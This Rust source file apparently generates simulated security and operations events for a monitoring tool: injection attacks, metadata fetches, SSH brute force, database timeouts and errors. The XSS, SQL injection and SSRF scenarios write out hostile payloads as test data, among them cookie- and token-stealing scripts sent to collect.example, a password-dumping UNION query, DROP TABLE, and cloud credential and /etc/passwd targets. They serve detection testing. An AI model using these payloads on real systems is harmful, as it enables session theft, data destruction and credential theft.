//! What the events of each scenario look like.

use super::Scenario;
use super::dice::Dice;
use foghorn_domain::event::NewEvent;
use foghorn_domain::severity::Severity;
use serde_json::{Map, Value, json};

/// Everything that can be simulated.
pub static SCENARIOS: &[Scenario] = &[
    Scenario { name: "xss", description: "Script injected into requests of a web shop", build: xss },
    Scenario { name: "sqli", description: "SQL injected into requests of a catalogue", build: sqli },
    Scenario { name: "ssrf", description: "A preview service asked to fetch cloud metadata", build: ssrf },
    Scenario { name: "db_timeout", description: "A checkout that waits for its database in vain", build: db_timeout },
    Scenario { name: "db_issue", description: "A database that runs out of connections", build: db_issue },
    Scenario { name: "latency_spike", description: "Response times far above their usual", build: latency_spike },
    Scenario { name: "brute_force", description: "Failed log-ins over SSH from one address", build: brute_force },
    Scenario { name: "error", description: "An error that an application reports itself", build: error },
];

fn xss(dice: &mut Dice) -> NewEvent {
    let script = dice.pick(&[
        "<script>document.location='http://collect.example/?c='+document.cookie</script>",
        "<img src=x onerror=alert(document.domain)>",
        "\"><svg onload=fetch('//collect.example/'+localStorage.token)>",
        "<iframe src=javascript:alert(1)></iframe>",
    ]);
    let field = dice.pick(&["q", "name", "comment", "redirect_label"]);
    let path = format!("/search?{field}={script}&page={}", dice.between(1, 900));
    request(dice, "web-shop", "GET", &path, 200)
}

fn sqli(dice: &mut Dice) -> NewEvent {
    let id = dice.between(1, 9999);
    let injected = dice.pick(&[
        "' OR '1'='1' --",
        "' UNION SELECT username, password FROM users --",
        "'; DROP TABLE orders; --",
        "' AND SLEEP(5) --",
    ]);
    let path = format!("/products?id={id}{injected}");
    request(dice, "catalogue", "GET", &path, 500)
}

fn ssrf(dice: &mut Dice) -> NewEvent {
    let target = dice.pick(&[
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://127.0.0.1:6379/",
        "file:///etc/passwd",
    ]);
    let path = format!("/preview?width={}&url={target}", dice.between(100, 2000));
    request(dice, "link-preview", "POST", &path, 200)
}

fn db_timeout(dice: &mut Dice) -> NewEvent {
    let (waited, order, active) = (dice.between(30_000, 30_999), dice.hex(8), dice.between(90, 100));
    let payload = format!(
        "ERROR Database connection timeout after {waited} ms: could not get a connection from pool \"checkout\" \
         ({active} of 100 in use) while saving order {order}"
    );
    log(dice, "checkout", "error", payload, json!({ "database": "orders-primary", "waited_ms": waited }))
}

fn db_issue(dice: &mut Dice) -> NewEvent {
    let payload = format!(
        "FATAL: remaining connection slots are reserved for non-replication superuser connections \
         (pid {}, client {})",
        dice.between(1000, 32_000),
        dice.address()
    );
    log(dice, "inventory", "fatal", payload, json!({ "database": "inventory-primary" }))
}

fn latency_spike(dice: &mut Dice) -> NewEvent {
    let value = dice.between(2_000, 9_000);
    let payload = format!("http_request_duration_ms p99 is {value} ms on POST /api/pay (usually 180 ms)");
    let metadata = json!({ "metric": "http_request_duration_ms_p99", "value": value, "unit": "ms" });
    described(dice, "payment-api", "metric", payload, metadata)
}

fn brute_force(dice: &mut Dice) -> NewEvent {
    let user = dice.pick(&["root", "admin", "oracle", "postgres", "test", "ubuntu", "git", "deploy"]);
    let unknown = if user == "root" { "" } else { "invalid user " };
    let (pid, port, from) = (dice.between(1000, 32_000), dice.between(30_000, 60_000), dice.address_of_the_run());
    let payload = format!("sshd[{pid}]: Failed password for {unknown}{user} from {from} port {port} ssh2");
    described(dice, "bastion", "log", payload, json!({ "client_ip": from }))
}

fn error(dice: &mut Dice) -> NewEvent {
    let (invoice, line) = (dice.between(100_000, 999_999), 214);
    let payload =
        format!("ERROR Unhandled exception while rendering invoice {invoice}: 'NoneType' has no attribute 'total'");
    let trace = format!(
        "Traceback (most recent call last):\n  File \"/app/invoices/render.py\", line {line}, in render\n    \
         total = invoice.totals.total\nAttributeError: 'NoneType' object has no attribute 'total'"
    );
    let mut event = log(dice, "invoicing", "error", payload, json!({ "stack_trace": trace }));
    event.event_type = "error".to_owned();
    event
}

fn request(dice: &mut Dice, service: &str, method: &str, path: &str, status: u16) -> NewEvent {
    let client = dice.address();
    let payload = format!("{client} \"{method} {path} HTTP/1.1\" {status} {}", dice.between(200, 9000));
    let metadata = json!({ "method": method, "path": path, "status_code": status, "client_ip": client });
    described(dice, service, "http_request", payload, metadata)
}

fn log(dice: &mut Dice, service: &str, level: &str, payload: String, metadata: Value) -> NewEvent {
    let mut event = described(dice, service, "log", payload, metadata);
    event.metadata.insert("level".to_owned(), level.into());
    event.severity = Severity::parse(level);
    event
}

fn described(dice: &mut Dice, service: &str, event_type: &str, payload: String, metadata: Value) -> NewEvent {
    let mut event = NewEvent::new(service, event_type, payload);
    event.metadata = match metadata {
        Value::Object(metadata) => metadata,
        _ => Map::new(),
    };
    let host = format!("{service}-{}", dice.between(1, 3));
    let trace = dice.hex(16) + &dice.hex(16);
    for (name, value) in [("service", service), ("environment", "production"), ("host", &host), ("trace_id", &trace)] {
        event.metadata.insert(name.to_owned(), value.into());
    }
    event
}
